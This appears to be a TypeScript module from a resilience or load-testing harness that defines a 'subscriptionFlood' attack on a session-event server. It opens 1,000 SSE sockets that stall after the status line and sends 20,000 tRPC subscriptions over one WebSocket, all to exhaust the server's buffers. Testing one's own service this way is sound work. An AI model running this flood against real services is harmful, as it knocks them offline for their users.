import type { Socket } from 'node:net';
import { setImmediate as yieldToLoop } from 'node:timers/promises';
import { WebSocket } from 'ws';
import type { Attack } from './attackOptions.ts';
import { createTally } from './createTally.ts';
import { openSockets } from './openSockets.ts';

const SUBSCRIPTIONS = 20_000;
const SSE_SOCKETS = 1_000;
const SEND_CHUNK = 500;

/** Classifies a tRPC WS answer by its first bytes; parsing every data message would cost the attacker more. */
function kindOf(head: string): string {
  if (/^\{"id":[^,]*,"error"/.test(head)) return 'error';
  const type = /"result":\{"type":"(\w+)"/.exec(head);
  return type ? type[1]! : 'other';
}

/**
 * Subscription flood: one WebSocket sends 20 000 `events.onEvents` subscriptions to the follower's
 * session (each backfills the whole trail and then gets every live event), and 1 000 raw sockets open
 * the plain SSE stream of that session and never read past the status line.
 */
export const subscriptionFlood: Attack = async ({ url, token, source, sessionId, signal, ready }) => {
  const target = new URL(url);
  const errors = createTally();
  const sseStatuses = createTally();
  let sseClosed = 0;
  const sseSockets = await openSockets({
    url,
    source,
    count: SSE_SOCKETS,
    wave: 100,
    signal,
    errors,
    onOpen(socket: Socket) {
      socket.write(
        `GET /api/sessions/${sessionId}/events/stream?from=0 HTTP/1.1\r\nHost: ${target.host}\r\n` +
          `Authorization: Bearer ${token}\r\nAccept: text/event-stream\r\n\r\n`,
      );
      // Read the status line, then stop reading: the kernel buffers fill and the server must hold the rest.
      socket.once('data', (chunk: Buffer) => {
        socket.pause();
        sseStatuses.add(/^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1', 0, 16))?.[1] ?? 'garbled');
      });
      socket.once('close', () => {
        if (!signal.aborted) sseClosed++;
      });
    },
  });

  const answers = createTally();
  let firstError = '';
  let wsClose = '';
  const ws = new WebSocket(`ws://${target.host}/ws`, {
    localAddress: source,
    headers: { authorization: `Bearer ${token}` },
  });
  ws.on('message', (data: Buffer) => {
    const kind = kindOf(data.toString('utf8', 0, 64));
    answers.add(kind);
    if (kind === 'error' && !firstError) firstError = data.toString('utf8', 0, 300);
  });
  ws.once('close', (code) => {
    if (!signal.aborted) wsClose = `closed by server (${code})`;
  });
  const opened = await new Promise<boolean>((resolve) => {
    ws.once('open', () => resolve(true));
    ws.once('error', (err) => {
      errors.add(`ws:${(err as NodeJS.ErrnoException).code ?? err.message}`);
      resolve(false);
    });
    signal.addEventListener('abort', () => resolve(false), { once: true });
  });
  let sent = 0;
  if (opened) {
    for (; sent < SUBSCRIPTIONS && !signal.aborted && ws.readyState === WebSocket.OPEN; sent++) {
      ws.send(
        JSON.stringify({
          id: sent + 1,
          method: 'subscription',
          params: { path: 'events.onEvents', input: { sessionId } },
        }),
      );
      if (sent % SEND_CHUNK === SEND_CHUNK - 1) await yieldToLoop();
    }
  }
  ready();
  await new Promise<void>((resolve) => {
    if (signal.aborted) resolve();
    else signal.addEventListener('abort', () => resolve(), { once: true });
  });
  ws.terminate();
  for (const socket of sseSockets) socket.destroy();
  return {
    outcome:
      `WS: ${sent} sent, answers ${answers.format()}${wsClose ? `, ${wsClose}` : ''}` +
      `${firstError ? `, first error ${firstError}` : ''}; ` +
      `SSE: ${sseSockets.length} sockets, statuses ${sseStatuses.format()}, ${sseClosed} closed by server; ` +
      `errors: ${errors.format()}`,
  };
};
